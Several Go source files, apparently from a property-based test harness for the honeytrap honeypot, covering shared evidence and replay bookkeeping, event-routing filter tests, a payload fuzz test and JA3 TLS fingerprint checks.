		return frame{}, err
	}
	body := make([]byte, int(binary.LittleEndian.Uint16(hdr[1:])))
	if _, err := io.ReadFull(r, body); err != nil {
		return frame{}, fmt.Errorf("stream ended inside a frame body: %v", err)
	}
	f, err := decodeBody(int(hdr[0]), body)
	if err != nil {
		return f, fmt.Errorf("frame with type byte %d and size %d: %v", hdr[0], len(body), err)
	}
	return f, nil
}
