// Package vlib is the glue every property check shares: case accounting for the
// evidence file, violation / replay files, the known-findings list, and a thin
// wrapper around rapid that pins the seed and captures the shrunk failing case.
package vlib

import (
	"crypto/sha1"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"pgregory.net/rapid"
)

const Root = "/verif"

// Finding is one entry of known_findings.json.
type Finding struct {
	Property string `json:"property"`
	ID       string `json:"id"`
	Status   string `json:"status"` // "known" or "fixed"
	What     string `json:"what"`
	Commit   string `json:"commit,omitempty"`
}

// Run collects what one test process covered for one property.
type Run struct {
	Prop string
	Tier string
	Seed uint64

	mu         sync.Mutex
	evals      int64
	distinctN  int64 // distinct-by-construction counter (enumerators)
	fps        map[uint64]struct{}
	labels     map[string]int64
	samples    []interface{}
	sampleKeys map[string]int
	excluded   map[string]int64
	violations []map[string]interface{}
	knownSeen  []string
	notes      []string
	exhaustive []string
	rule       []string
	findings   []Finding
	start      time.Time
	lastFail   map[string]*failRec
	flaky      int64
}

type failRec struct {
	Case interface{}
	Msg  string
}

var (
	runs   = map[string]*Run{}
	runsMu sync.Mutex
)

// Open returns the process-wide Run for a property.
func Open(prop string) *Run {
	runsMu.Lock()
	defer runsMu.Unlock()
	if r, ok := runs[prop]; ok {
		return r
	}
	r := &Run{
		Prop:       prop,
		Tier:       os.Getenv("VERIF_TIER"),
		fps:        map[uint64]struct{}{},
		labels:     map[string]int64{},
		sampleKeys: map[string]int{},
		excluded:   map[string]int64{},
		lastFail:   map[string]*failRec{},
		start:      time.Now(),
	}
	if r.Tier == "" {
		r.Tier = "quick"
	}
	s, _ := strconv.ParseUint(os.Getenv("VERIF_SEED"), 10, 64)
	if s == 0 {
		s = 1
	}
	shard, _ := strconv.ParseUint(os.Getenv("VERIF_SHARD"), 10, 64)
	r.Seed = s*1000 + shard
	data, err := os.ReadFile(filepath.Join(Root, "known_findings.json"))
	if err == nil {
		var all []Finding
		if err := json.Unmarshal(data, &all); err != nil {
			fmt.Printf("INFRA: known_findings.json unreadable: %v\n", err)
			os.Exit(2)
		}
		for _, f := range all {
			if f.Property == prop {
				r.findings = append(r.findings, f)
			}
		}
	}
	runs[prop] = r
	return r
}

func (r *Run) Thorough() bool { return r.Tier == "thorough" }

// Shard returns (index, count) of this process among the driver's shards.
func (r *Run) Shard() (int, int) {
	i, _ := strconv.Atoi(os.Getenv("VERIF_SHARD"))
	n, _ := strconv.Atoi(os.Getenv("VERIF_SHARDS"))
	if n <= 0 {
		n = 1
	}
	return i, n
}

// Pick returns q in the quick tier and t in the thorough tier.
func (r *Run) Pick(q, t int) int {
	if r.Thorough() {
		return t
	}
	return q
}

// Rule records (once) the generation / non-triviality rule text for the evidence.
func (r *Run) Rule(text string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, x := range r.rule {
		if x == text {
			return
		}
	}
	r.rule = append(r.rule, text)
}

func (r *Run) Note(format string, a ...interface{}) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.notes) < 200 {
		r.notes = append(r.notes, fmt.Sprintf(format, a...))
	}
}

// Exhaustive records that a finite space was enumerated completely.
func (r *Run) Exhaustive(what string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.exhaustive = append(r.exhaustive, what)
}

func hash64(s string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(s))
	return h.Sum64()
}

// Case accounts one executed case. label feeds the histogram; fingerprint is the
// canonical identity of the case when it is non-trivial by the property's rule and ""
// when it is trivial. sample, when non-nil, is kept for the first few cases per label.
func (r *Run) Case(label, fingerprint string, sample func() interface{}) {
	r.mu.Lock()
	r.evals++
	r.labels[label]++
	if fingerprint != "" {
		r.fps[hash64(label+"\x00"+fingerprint)] = struct{}{}
	}
	take := sample != nil && r.sampleKeys[label] < 2 && len(r.samples) < 40 && (fingerprint != "" || r.sampleKeys[label] == 0)
	if take {
		r.sampleKeys[label]++
	}
	r.mu.Unlock()
	if take {
		s := sample()
		r.mu.Lock()
		r.samples = append(r.samples, map[string]interface{}{"label": label, "nontrivial": fingerprint != "", "case": s})
		r.mu.Unlock()
	}
}

// Bulk accounts n cases of an enumerator whose cases are distinct by construction;
// nontrivial of them satisfied the non-triviality rule.
func (r *Run) Bulk(label string, n, nontrivial int64) {
	r.mu.Lock()
	r.evals += n
	r.labels[label] += n
	r.distinctN += nontrivial
	r.mu.Unlock()
}

func (r *Run) Sample(label string, s interface{}) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.sampleKeys[label] < 2 && len(r.samples) < 40 {
		r.sampleKeys[label]++
		r.samples = append(r.samples, map[string]interface{}{"label": label, "case": s})
	}
}

func (r *Run) Label(label string, n int64) {
	r.mu.Lock()
	r.labels[label] += n
	r.mu.Unlock()
}

func (r *Run) Flaky(what string) {
	r.mu.Lock()
	r.flaky++
	r.mu.Unlock()
	r.Note("flaky_schedule: %s", what)
}

// IsKnown reports whether finding id is listed as known (recorded, not repaired), in
// which case generators exclude it by construction and count the exclusion.
func (r *Run) IsKnown(id string) bool {
	for _, f := range r.findings {
		if f.ID == id && f.Status == "known" {
			return true
		}
	}
	return false
}

func (r *Run) Excluded(id string) {
	r.mu.Lock()
	r.excluded[id]++
	r.mu.Unlock()
}

// CheckKnown runs the pinned reproducer of a finding. If it still fails and the
// finding is listed as known, a KNOWN-FINDING line is printed; if it fails and is not
// listed (or listed as fixed) it is a violation like any other.
func (r *Run) CheckKnown(t *testing.T, id string, repro func() error) {
	err := repro()
	if err == nil {
		return
	}
	if r.IsKnown(id) {
		what := ""
		for _, f := range r.findings {
			if f.ID == id {
				what = f.What
			}
		}
		r.mu.Lock()
		seen := false
		for _, k := range r.knownSeen {
			if k == id {
				seen = true
			}
		}
		if !seen {
			r.knownSeen = append(r.knownSeen, id)
		}
		r.mu.Unlock()
		if !seen {
			fmt.Printf("KNOWN-FINDING: property=%s id=%s %s\n", r.Prop, id, oneLine(what))
		}
		return
	}
	r.Violation(t, "known-"+id, map[string]interface{}{"finding": id}, err.Error())
}

func oneLine(s string) string {
	return strings.Join(strings.Fields(s), " ")
}

// Violation writes a replay file and prints the VIOLATION line. test names the test
// function that can replay the case (VERIF_REPLAY=<file>).
func (r *Run) Violation(t testing.TB, test string, c interface{}, msg string) string {
	rec := map[string]interface{}{
		"property": r.Prop,
		"test":     test,
		"case":     c,
		"message":  msg,
		"seed":     r.Seed,
		"tier":     r.Tier,
	}
	data, _ := json.MarshalIndent(rec, "", " ")
	cdata, _ := json.Marshal(c)
	sum := sha1.Sum(append([]byte(test+"\x00"), cdata...))
	dir := filepath.Join(Root, "replays", r.Prop)
	os.MkdirAll(dir, 0755)
	path := filepath.Join(dir, "found-"+test+"-"+hex.EncodeToString(sum[:6])+".json")
	if os.Getenv("VERIF_REPLAY") != "" {
		path = os.Getenv("VERIF_REPLAY")
	} else {
		os.WriteFile(path, data, 0644)
	}
	r.mu.Lock()
	r.violations = append(r.violations, map[string]interface{}{"test": test, "replay": path, "message": trunc(msg, 600)})
	r.mu.Unlock()
	fmt.Printf("VIOLATION property=%s replay=%s\n", r.Prop, path)
	fmt.Printf("  detail[%s]: %s\n", test, trunc(oneLine(msg), 1500))
	if t != nil {
		t.Fail()
	}
	return path
}

func trunc(s string, n int) string {
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}

// ReplayCase returns the case stored in $VERIF_REPLAY when it belongs to test.
func ReplayCase(test string, into interface{}) bool {
	p := os.Getenv("VERIF_REPLAY")
	if p == "" {
		return false
	}
	data, err := os.ReadFile(p)
	if err != nil {
		fmt.Printf("INFRA: cannot read replay %s: %v\n", p, err)
		os.Exit(2)
	}
	var rec struct {
		Test string          `json:"test"`
		Case json.RawMessage `json:"case"`
	}
	if err := json.Unmarshal(data, &rec); err != nil {
		fmt.Printf("INFRA: bad replay %s: %v\n", p, err)
		os.Exit(2)
	}
	if rec.Test != test {
		return false
	}
	if err := json.Unmarshal(rec.Case, into); err != nil {
		fmt.Printf("INFRA: bad replay case %s: %v\n", p, err)
		os.Exit(2)
	}
	return true
}

// Replaying reports whether the process is in replay mode (only the replayed test
// should do work).
func Replaying() bool { return os.Getenv("VERIF_REPLAY") != "" }

// Fail records the failing case for test and aborts the rapid case. rapid re-runs the
// shrunk case last, so the record that survives is the minimal one.
func (r *Run) Fail(rt *rapid.T, test string, c interface{}, format string, a ...interface{}) {
	msg := fmt.Sprintf(format, a...)
	r.mu.Lock()
	r.lastFail[test] = &failRec{Case: c, Msg: msg}
	r.mu.Unlock()
	rt.Fatalf("%s", msg)
}

// Rapid runs prop under rapid with a pinned seed and the given number of checks; a
// failure is shrunk by rapid and reported as a violation with the last failing case.
func (r *Run) Rapid(t *testing.T, test string, checks int, prop func(rt *rapid.T)) {
	if Replaying() {
		return
	}
	flag.Set("rapid.checks", strconv.Itoa(checks))
	seed := (r.Seed*0x9E3779B97F4A7C15 ^ hash64(test)) >> 1 // distinct per (VERIF_SEED, shard, test)
	if seed == 0 {
		seed = 1 // rapid treats 0 as "random"
	}
	flag.Set("rapid.seed", strconv.FormatUint(seed, 10))
	flag.Set("rapid.nofailfile", "true")
	if os.Getenv("VERIF_SHRINKTIME") != "" {
		flag.Set("rapid.shrinktime", os.Getenv("VERIF_SHRINKTIME"))
	} else {
		flag.Set("rapid.shrinktime", "20s")
	}
	var passedLine string
	ok := t.Run("rapid", func(st *testing.T) {
		defer func() {
			_ = passedLine
		}()
		rapid.Check(st, prop)
	})
	if ok {
		return
	}
	r.mu.Lock()
	fr := r.lastFail[test]
	r.mu.Unlock()
	if fr == nil {
		// the property aborted without recording a failing case (rt.Fatalf("infra: ...") or a
		// panic in the harness): inconclusive, never a violation
		fmt.Printf("INFRA: %s: rapid run failed without a recorded case (harness trouble) - see test output\n", test)
		t.Fail()
		return
	}
	r.Violation(t, test, fr.Case, fr.Msg)
}

// Close writes this process's part of the evidence to $VERIF_OUT.<pid>.json.
func (r *Run) Close() {
	out := os.Getenv("VERIF_OUT")
	if out == "" {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	fps := make([]string, 0, len(r.fps))
	if len(r.fps) <= 400000 {
		for k := range r.fps {
			fps = append(fps, strconv.FormatUint(k, 36))
		}
		sort.Strings(fps)
	}
	part := map[string]interface{}{
		"property":     r.Prop,
		"tier":         r.Tier,
		"seed":         r.Seed,
		"evaluations":  r.evals,
		"distinct_n":   r.distinctN,
		"fps":          fps,
		"fps_count":    len(r.fps),
		"labels":       r.labels,
		"samples":      r.samples,
		"excluded":     r.excluded,
		"violations":   r.violations,
		"known_seen":   r.knownSeen,
		"notes":        r.notes,
		"exhaustive":   r.exhaustive,
		"rule":         r.rule,
		"flaky":        r.flaky,
		"wall_s":       time.Since(r.start).Seconds(),
	}
	data, _ := json.Marshal(part)
	os.WriteFile(fmt.Sprintf("%s.%d.json", out, os.Getpid()), data, 0644)
}

// Main is called from TestMain of every property package.
func Main(m *testing.M, prop string) {
	r := Open(prop)
	code := m.Run()
	r.Close()
	os.Exit(code)
}

// JSON is a helper for samples.
func JSON(v interface{}) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// Hex renders bytes for samples / replay files.
func Hex(b []byte) string { return hex.EncodeToString(b) }

func UnHex(s string) []byte {
	b, _ := hex.DecodeString(s)
	return b
}
