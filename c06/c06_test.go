package c06

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

const prop = "C06"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

type filterSpec struct {
	Channels   []string `json:"channels"`
	Categories []string `json:"categories"` // nil = absent
	Services   []string `json:"services"`   // nil = absent
}

type evSpec struct {
	Category string `json:"category"` // "<missing>", "<int>" or a string value
	Service  string `json:"service"`
}

type routeCase struct {
	Channels []string     `json:"channels"`
	Filters  []filterSpec `json:"filters"`
	Events   []evSpec     `json:"events"`
}

var exprAlphabet = []string{"a", "b", "^a$", "a|b", ".", "^$", "ssh", "^s", "b$", "[ab]+", "^(a|ssh)$", "x"}
var valueAlphabet = []string{"a", "b", "ab", "ba", "ssh", "", "x", "A", "<missing>", "<int>"}

func tomlList(xs []string) string {
	q := make([]string, len(xs))
	for i, x := range xs {
		q[i] = fmt.Sprintf("%q", x)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

func (c routeCase) toml(id string, channels []string, filters []filterSpec) string {
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n", id)
	fmt.Fprintf(&b, "[service.stub]\ntype=\"verif-plain\"\nid=%q\n\n", id+"-stub")
	for _, ch := range channels {
		fmt.Fprintf(&b, "[channel.%s]\ntype=\"verif-capture\"\nid=%q\n\n", ch, id+"-"+ch)
	}
	for _, f := range filters {
		fmt.Fprintf(&b, "[[filter]]\nchannel=%s\n", tomlList(f.Channels))
		if f.Categories != nil {
			fmt.Fprintf(&b, "categories=%s\n", tomlList(f.Categories))
		}
		if f.Services != nil {
			fmt.Fprintf(&b, "services=%s\n", tomlList(f.Services))
		}
		b.WriteString("\n")
	}
	return b.String()
}

// admits is the reference filter: (definitely, possibly). A missing or non-string
// field is ambiguous against expressions that match the empty string (the statement
// does not say whether such an expression matches an absent value), so the model
// answers with a range there.
func admits(exprs []string, val string) (lo, hi bool) {
	if exprs == nil {
		return true, true
	}
	absent := val == "<missing>" || val == "<int>"
	for _, x := range exprs {
		rx := regexp.MustCompile(x)
		if absent {
			if rx.MatchString("") {
				hi = true
			}
		} else if rx.MatchString(val) {
			return true, true
		}
	}
	return lo, hi
}

func mkEvent(i int, e evSpec) event.Event {
	opts := []event.Option{event.Custom("c06.n", i), event.Sensor("c06")}
	switch e.Category {
	case "<missing>":
	case "<int>":
		opts = append(opts, event.Custom("category", 7))
	default:
		opts = append(opts, event.Category(e.Category))
	}
	switch e.Service {
	case "<missing>":
	case "<int>":
		opts = append(opts, event.Custom("service", 7))
	default:
		opts = append(opts, event.Service(e.Service))
	}
	return event.New(opts...)
}

type delivery struct{ lo, hi int }

// expect computes per channel, per event index, how many copies must arrive.
func expect(channels []string, filters []filterSpec, events []evSpec) map[string][]delivery {
	exists := map[string]bool{}
	for _, c := range channels {
		exists[c] = true
	}
	out := map[string][]delivery{}
	for _, c := range channels {
		out[c] = make([]delivery, len(events))
	}
	for _, f := range filters {
		for _, name := range f.Channels {
			if !exists[name] {
				continue
			}
			for i, e := range events {
				clo, chi := admits(f.Categories, e.Category)
				slo, shi := admits(f.Services, e.Service)
				if clo && slo {
					out[name][i].lo++
				}
				if chi && shi {
					out[name][i].hi++
				}
			}
		}
	}
	return out
}

func token() string {
	dir, _ := lab.DataDir()
	b, _ := os.ReadFile(filepath.Join(dir, "token"))
	return string(b)
}

// runConfig starts a real server with the configuration, sends the events through the
// bus the stub service was given, and returns per channel the sequence numbers received.
func runConfig(c routeCase, channels []string, filters []filterSpec) (map[string][]int, map[string][]lab.Ev, error) {
	id := lab.NextID()
	srv, err := lab.Start(id, c.toml(id, channels, filters), true)
	if err != nil {
		return nil, nil, fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	stub := lab.GetStub(id + "-stub")
	if stub == nil || stub.Bus() == nil {
		return nil, nil, fmt.Errorf("infra: stub service was not given a channel")
	}
	for i, e := range c.Events {
		stub.Bus().Send(mkEvent(i, e))
	}
	got := map[string][]int{}
	raw := map[string][]lab.Ev{}
	ids := []string{id, id + "-stub"}
	for _, ch := range channels {
		cap := lab.GetCapture(id + "-" + ch)
		ids = append(ids, id+"-"+ch)
		if cap == nil {
			return nil, nil, fmt.Errorf("infra: capture channel %s missing", ch)
		}
		got[ch] = []int{}
		for _, ev := range cap.Events() {
			if ev.Str("sensor") != "c06" {
				continue // server's own events (heartbeat)
			}
			n, _ := ev.M["c06.n"].(int)
			got[ch] = append(got[ch], n)
			raw[ch] = append(raw[ch], ev)
		}
	}
	lab.Forget(ids...)
	return got, raw, nil
}

func checkRoute(c routeCase) error {
	got, raw, err := runConfig(c, c.Channels, c.Filters)
	if err != nil {
		return err
	}
	exp := expect(c.Channels, c.Filters, c.Events)
	tok := token()
	if len(tok) == 0 {
		return fmt.Errorf("infra: no token file")
	}
	for _, ch := range c.Channels {
		// order: non-decreasing sequence numbers; multiplicity within [lo,hi]
		cnt := make([]int, len(c.Events))
		last := -1
		for _, n := range got[ch] {
			if n < last {
				return fmt.Errorf("channel %s received event %d after event %d (sending order violated): %v", ch, n, last, got[ch])
			}
			last = n
			if n < 0 || n >= len(cnt) {
				return fmt.Errorf("channel %s received an unknown event %d", ch, n)
			}
			cnt[n]++
		}
		for i := range cnt {
			if cnt[i] < exp[ch][i].lo || cnt[i] > exp[ch][i].hi {
				return fmt.Errorf("channel %s received event %d (category=%q service=%q) %d times, reference model says %d..%d; filters=%s", ch, i, c.Events[i].Category, c.Events[i].Service, cnt[i], exp[ch][i].lo, exp[ch][i].hi, vlib.JSON(c.Filters))
			}
		}
		for _, ev := range raw[ch] {
			if ev.Str("token") != tok {
				return fmt.Errorf("channel %s: delivered event %v carries token %q, sensor token is %q", ch, ev.M["c06.n"], ev.Str("token"), tok)
			}
			if ev.SerErr != "" {
				return fmt.Errorf("delivered event does not serialise: %s", ev.SerErr)
			}
		}
	}
	return nil
}

// metamorphic: what channel X receives is unchanged when every other channel and every
// filter that does not name X is removed.
func checkIndependence(c routeCase, ch string) error {
	full, _, err := runConfig(c, c.Channels, c.Filters)
	if err != nil {
		return err
	}
	var fs []filterSpec
	for _, f := range c.Filters {
		var names []string
		for _, n := range f.Channels {
			if n == ch {
				names = append(names, n)
			}
		}
		if len(names) > 0 {
			fs = append(fs, filterSpec{names, f.Categories, f.Services})
		}
	}
	alone, _, err := runConfig(c, []string{ch}, fs)
	if err != nil {
		return err
	}
	if fmt.Sprint(full[ch]) != fmt.Sprint(alone[ch]) {
		return fmt.Errorf("channel %s receives %v in the full configuration but %v when configured alone", ch, full[ch], alone[ch])
	}
	return nil
}

func genExprs(t *rapid.T, label string) []string {
	if rapid.IntRange(0, 3).Draw(t, label+"absent") == 0 {
		return nil
	}
	return rapid.SliceOfN(rapid.SampledFrom(exprAlphabet), 1, 3).Draw(t, label)
}

func genCase(t *rapid.T) routeCase {
	all := []string{"c1", "c2", "c3"}
	nch := rapid.IntRange(1, 3).Draw(t, "nch")
	c := routeCase{Channels: all[:nch]}
	nf := rapid.IntRange(0, 4).Draw(t, "nf")
	for i := 0; i < nf; i++ {
		names := rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"c1", "c2", "c3", "ghost"}), 0, 3, rapid.ID[string]).Draw(t, "names")
		c.Filters = append(c.Filters, filterSpec{Channels: names, Categories: genExprs(t, "cat"), Services: genExprs(t, "svc")})
	}
	ne := rapid.IntRange(1, 20).Draw(t, "ne")
	for i := 0; i < ne; i++ {
		c.Events = append(c.Events, evSpec{rapid.SampledFrom(valueAlphabet).Draw(t, "ecat"), rapid.SampledFrom(valueAlphabet).Draw(t, "esvc")})
	}
	return c
}

// nontrivial: >=2 subscriptions and >=1 event admitted by one and rejected by another
func nontrivial(c routeCase) bool {
	exists := map[string]bool{}
	for _, ch := range c.Channels {
		exists[ch] = true
	}
	type sub struct{ f filterSpec }
	var subs []filterSpec
	for _, f := range c.Filters {
		for _, n := range f.Channels {
			if exists[n] {
				subs = append(subs, f)
			}
		}
	}
	if len(subs) < 2 {
		return false
	}
	for _, e := range c.Events {
		yes, no := false, false
		for _, f := range subs {
			clo, chi := admits(f.Categories, e.Category)
			slo, shi := admits(f.Services, e.Service)
			if clo && slo {
				yes = true
			}
			if !(chi && shi) {
				no = true
			}
		}
		if yes && no {
			return true
		}
	}
	return false
}

func TestRouting(t *testing.T) {
	r := vlib.Open(prop)
	var rc routeCase
	if vlib.ReplayCase("TestRouting", &rc) {
		if err := checkRoute(rc); err != nil {
			r.Violation(t, "TestRouting", rc, err.Error())
		}
		return
	}
	r.Rule("configurations of 1..3 capture channels and 0..4 filters (channel lists incl. unknown names, category/service lists absent or 1..3 expressions from a regex alphabet) x 1..20 events whose category/service are matching, non-matching, missing or non-string, through the real Run() wiring and bus; oracle = reference subscription model (multiplicity and order per channel, token on every delivered event); non-trivial = >=2 subscriptions and an event admitted by one and rejected by another; distinct by configuration+stream")
	start := time.Now()
	r.Rapid(t, "TestRouting", r.Pick(8000, 60000), func(rt *rapid.T) {
		c := genCase(rt)
		fp := ""
		if nontrivial(c) {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("route/channels=%d/filters=%d", len(c.Channels), len(c.Filters)), fp, func() interface{} { return c })
		if err := checkRoute(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestRouting", c, "%v", err)
		}
	})
	_ = start
}

type indepCase struct {
	Case    routeCase `json:"case"`
	Channel string    `json:"channel"`
}

func TestIndependence(t *testing.T) {
	r := vlib.Open(prop)
	var ic indepCase
	if vlib.ReplayCase("TestIndependence", &ic) {
		if err := checkIndependence(ic.Case, ic.Channel); err != nil {
			r.Violation(t, "TestIndependence", ic, err.Error())
		}
		return
	}
	r.Rule("metamorphic: a channel's received list is unchanged when all other channels and the filters not naming it are removed")
	r.Rapid(t, "TestIndependence", r.Pick(2500, 20000), func(rt *rapid.T) {
		c := genCase(rt)
		ch := rapid.SampledFrom(c.Channels).Draw(rt, "channel")
		fp := ""
		if nontrivial(c) && len(c.Channels) > 1 {
			fp = vlib.JSON(c) + ch
		}
		r.Case("independence", fp, func() interface{} { return indepCase{c, ch} })
		if err := checkIndependence(c, ch); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestIndependence", indepCase{c, ch}, "%v", err)
		}
	})
}
