package c05

import "testing"

// FuzzPayload: byte-exact payload fidelity for arbitrary bytes (same oracle as the enumerator).
func FuzzPayload(f *testing.F) {
	f.Add([]byte("GET / HTTP/1.1\r\n"))
	f.Add([]byte{0xff, 0x00, 0xc0, 0x80})
	f.Fuzz(func(t *testing.T, b []byte) {
		if err := checkPayload(b); err != nil {
			t.Fatal(err)
		}
	})
}
