package c13

// Completed handshakes: Go's own crypto/tls client (independent of the vendored stack the
// service uses) talks to the https service over the in-memory connection, the harness
// records the bytes the client put on the wire, and the reference JA3 of the first
// handshake message is compared with the digest on the http request events (and on the
// handshake-failed event when the parameters drawn have no common ground).

import (
	"bufio"
	stdtls "crypto/tls"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/vlib"
)

type clientCase struct {
	MinVer   uint16   `json:"min_version"`
	MaxVer   uint16   `json:"max_version"`
	Suites   []uint16 `json:"suites"` // empty = client defaults
	Curves   []uint16 `json:"curves"` // empty = client defaults
	SNI      string   `json:"sni"`
	ALPN     []string `json:"alpn"`
	Tickets  bool     `json:"tickets"`
	Requests int      `json:"requests"`
}

type recConn struct {
	net.Conn
	mu   sync.Mutex
	sent []byte
}

func (r *recConn) Write(p []byte) (int, error) {
	r.mu.Lock()
	r.sent = append(r.sent, p...)
	r.mu.Unlock()
	return r.Conn.Write(p)
}

func checkClient(c clientCase) (string, error) {
	s, cp, err := server()
	if err != nil {
		return "", fmt.Errorf("infra: %v", err)
	}
	base := cp.Len()
	ip, port := nextSource()
	conn := s.L.DialTCP(&net.TCPAddr{IP: net.IPv4(10, 0, 0, 1), Port: 443}, &net.TCPAddr{IP: net.ParseIP(ip), Port: port})
	rc := &recConn{Conn: conn.NetConn()}
	cfg := &stdtls.Config{
		InsecureSkipVerify:     true,
		MinVersion:             c.MinVer,
		MaxVersion:             c.MaxVer,
		ServerName:             c.SNI,
		NextProtos:             c.ALPN,
		SessionTicketsDisabled: !c.Tickets,
		CipherSuites:           c.Suites,
	}
	for _, cv := range c.Curves {
		cfg.CurvePreferences = append(cfg.CurvePreferences, stdtls.CurveID(cv))
	}
	tc := stdtls.Client(rc, cfg)
	rc.Conn.SetDeadline(time.Now().Add(60 * time.Second))
	outcome := "handshake-failed"
	done := 0
	if err := tc.Handshake(); err == nil {
		outcome = "completed"
		br := bufio.NewReader(tc)
		for i := 0; i < c.Requests; i++ {
			fmt.Fprintf(tc, "GET /r%d HTTP/1.1\r\nHost: verif\r\n\r\n", i)
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				outcome = "noresponse-after-handshake"
				break
			}
			resp.Body.Close()
			done++
		}
	}
	tc.Close()
	conn.CloseWrite()
	if !conn.WaitClosed(120 * time.Second) {
		return outcome, fmt.Errorf("infra: server did not finish the connection within 120s of the client's close")
	}
	want := 1
	if done > 0 {
		want = done
	}
	rec := collect(cp, base, ip, port, want, true)
	rc.mu.Lock()
	sent := append([]byte(nil), rc.sent...)
	rc.mu.Unlock()
	ref, err := parseFirstHello(sent, true)
	if err != nil {
		return outcome, fmt.Errorf("infra: reference cannot read the hello of the Go client: %v", err)
	}
	if done > 0 && rec.events < done {
		// not what C13 is about (capture of requests), but then nothing was compared for them
		outcome = "events-missing-after-handshake"
	}
	if len(rec.digests) == 0 {
		// compare reports it: the hello of every connection made here was written completely
		outcome = "nothing-compared/" + outcome
	}
	return outcome, compare("hello of Go's crypto/tls client", ref, rec)
}

var clientSuites = []uint16{0xc02f, 0xc030, 0xc013, 0xc014, 0x002f, 0x0035, 0x009c, 0x009d, 0xcca8, 0xc027, 0x003c, 0x000a, 0xc012, 0xc02b, 0xc009}

func genClient(t *rapid.T) clientCase {
	var c clientCase
	vs := []uint16{0x0301, 0x0302, 0x0303}
	a := rapid.IntRange(0, 2).Draw(t, "minver")
	b := rapid.IntRange(a, 2).Draw(t, "maxver")
	if rapid.IntRange(0, 2).Draw(t, "tls12") != 0 {
		b = 2
	}
	c.MinVer, c.MaxVer = vs[a], vs[b]
	if rapid.Bool().Draw(t, "suites") {
		c.Suites = rapid.SliceOfNDistinct(rapid.SampledFrom(clientSuites), 1, 8, rapid.ID[uint16]).Draw(t, "suitelist")
	}
	if rapid.Bool().Draw(t, "curves") {
		c.Curves = rapid.SliceOfNDistinct(rapid.SampledFrom([]uint16{23, 24, 25, 29}), 1, 4, rapid.ID[uint16]).Draw(t, "curvelist")
	}
	if rapid.IntRange(0, 3).Draw(t, "sni") != 0 {
		c.SNI = rapid.SampledFrom(sniNames).Draw(t, "name")
	}
	if rapid.Bool().Draw(t, "alpn") {
		c.ALPN = rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"http/1.1", "h2", "x"}), 1, 3, rapid.ID[string]).Draw(t, "alpnlist")
	}
	c.Tickets = rapid.Bool().Draw(t, "tickets")
	c.Requests = rapid.IntRange(1, 3).Draw(t, "requests")
	return c
}

func TestClient(t *testing.T) {
	const name = "TestClient"
	r := vlib.Open(prop)
	r.Rule("completed handshakes: Go's crypto/tls client (TLS1.0..1.2, drawn suites / curves / SNI / ALPN / tickets, 1..3 GET requests) against the https service; reference JA3 of the bytes the client wrote == https.ja3-digest of every http request event, and at least one event of the connection carries the digest (and the server name when SNI was sent) (non-trivial: the hello carries extension types the vendored stack does not know)")
	var rc clientCase
	if vlib.ReplayCase(name, &rc) {
		if _, err := checkClient(rc); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				t.Fatalf("%v", err)
			}
			r.Violation(t, name, rc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if _, _, err := server(); err != nil {
		t.Fatalf("infra: %v", err)
	}
	r.Rapid(t, name, r.Pick(60, 600), func(rt *rapid.T) {
		c := genClient(rt)
		outcome, err := checkClient(c)
		// Go's client always sends extensions the vendored stack does not parse
		// (supported_versions, extended_master_secret ...): non-trivial by the rule
		r.Case("client/"+outcome, vlib.JSON(c), func() interface{} { return c })
		if err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, name, c, "%v", err)
		}
	})
}
