package svc

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"verif/vlib"
)

// Child is a running lab child (labd).
type Child struct {
	cmd    *exec.Cmd
	in     io.WriteCloser
	out    *bufio.Reader
	outF   *os.File
	errLog *os.File
	dir    string
	nextID int
	dead   bool
	Exit   string // how it ended
	mu     sync.Mutex
}

var (
	tmplOnce sync.Once
	tmplDir  string
	tmplErr  error
)

func labdPath() string {
	if p := os.Getenv("VERIF_LABD"); p != "" {
		return p
	}
	return filepath.Join(vlib.Root, ".build", "labd")
}

// template data directory: keys and certificates are generated once, every child gets a
// copy, so that start-up costs a fraction of a second.
func template() (string, error) {
	tmplOnce.Do(func() {
		base, err := os.MkdirTemp("", "labd-tmpl")
		if err != nil {
			tmplErr = err
			return
		}
		tmplDir = base
		c, err := startChild(base, false, nil)
		if err != nil {
			tmplErr = fmt.Errorf("template child: %v", err)
			return
		}
		c.Stop()
	})
	return tmplDir, tmplErr
}

// StartChild starts a lab child on a copy of the template data directory.
func StartChild(services []string) (*Child, error) {
	t, err := template()
	if err != nil {
		return nil, err
	}
	dir, err := os.MkdirTemp("", "labd-data")
	if err != nil {
		return nil, err
	}
